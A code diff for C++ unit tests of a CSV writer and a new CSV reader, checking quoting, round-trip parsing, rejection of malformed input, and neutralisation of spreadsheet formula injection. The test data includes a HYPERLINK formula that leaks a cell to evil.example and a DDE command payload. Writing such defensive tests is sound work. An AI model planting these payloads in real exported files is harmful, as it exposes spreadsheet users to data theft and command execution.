@@ -1,3 +1,4 @@
+#include "common/CsvReader.h"
 #include "common/CsvWriter.h"
 #include "common/MediaType.h"
 #include "common/Messages.h"
@@ -75,17 +76,21 @@ TEST(MediaType, HtmlTest) {
     }
 }
 
-TEST(Csv, QuotesOnlyWhatNeedsIt) {
+TEST(Csv, QuotesOnlyWhatNeedsItAndReadsBackWhatItWrote) {
+    const std::vector<std::vector<std::string>> rows{
+        {"Id", "URI"},
+        {"1", "http://h/a,b"},
+        {"2", "say \"hi\""},
+        {"3", "line\nbreak"},
+        {"", "\xb0\xa1"}, // bytes pass through untouched
+        // Text a spreadsheet would run as a formula is kept as text; numbers stay numbers.
+        {"-1", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"},
+        {"+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx", "a=b", "-"},
+    };
     std::ostringstream out;
     CsvWriter csv(out);
-    csv.WriteRow({"Id", "URI"});
-    csv.WriteRow({"1", "http://h/a,b"});
-    csv.WriteRow({"2", "say \"hi\""});
-    csv.WriteRow({"3", "line\nbreak"});
-    csv.WriteRow({"", "\xb0\xa1"}); // bytes pass through untouched
-    // Text a spreadsheet would run as a formula is kept as text; numbers stay numbers.
-    csv.WriteRow({"-1", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"});
-    csv.WriteRow({"+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx", "a=b", "-"});
+    for (const auto& row : rows)
+        csv.WriteRow(row);
     EXPECT_EQ(out.str(), "Id,URI\r\n"
                          "1,\"http://h/a,b\"\r\n"
                          "2,\"say \"\"hi\"\"\"\r\n"
@@ -93,6 +98,40 @@ TEST(Csv, QuotesOnlyWhatNeedsIt) {
                          ",\xb0\xa1\r\n"
                          "-1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"\r\n"
                          "'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,'\tx,\"'\rx\",a=b,'-\r\n");
+
+    std::vector<CsvReader::TRow> read;
+    ASSERT_TRUE(CsvReader::Parse(out.str(), read));
+    for (auto& row : read)
+        for (std::string& cell : row)
+            cell = CsvReader::PlainCell(cell);
+    EXPECT_EQ(read, rows);
+}
+
+TEST(Csv, ReadsWhatItCanAndRefusesWhatIsNoCsv) {
+    const struct {
+        std::string_view Text;
+        bool Ok;
+        std::vector<CsvReader::TRow> Rows;
+    } table[] = {
+        {"", true, {}},
+        {"a,b\nc,\n", true, {{"a", "b"}, {"c", ""}}}, // LF alone, an empty last cell
+        {"\"\",'x,'=1", true, {{"", "'x", "'=1"}}},   // kept as written: PlainCell's to do
+        {"\"open,\r\n", false, {}},
+        {"a\"b", false, {}},
+        {"\"a\"b", false, {}},
+        {"a\rb", false, {}},
+    };
+    for (const auto& row : table) {
+        SCOPED_TRACE(row.Text);
+        std::vector<CsvReader::TRow> rows;
+        EXPECT_EQ(CsvReader::Parse(row.Text, rows), row.Ok);
+        if (row.Ok) {
+            EXPECT_EQ(rows, row.Rows);
+        }
+    }
+    EXPECT_EQ(CsvReader::PlainCell("'x"), "'x");
+    EXPECT_EQ(CsvReader::PlainCell("'-1"), "'-1");
+    EXPECT_EQ(CsvReader::PlainCell("'-x"), "-x");
 }
 
 } // namespace
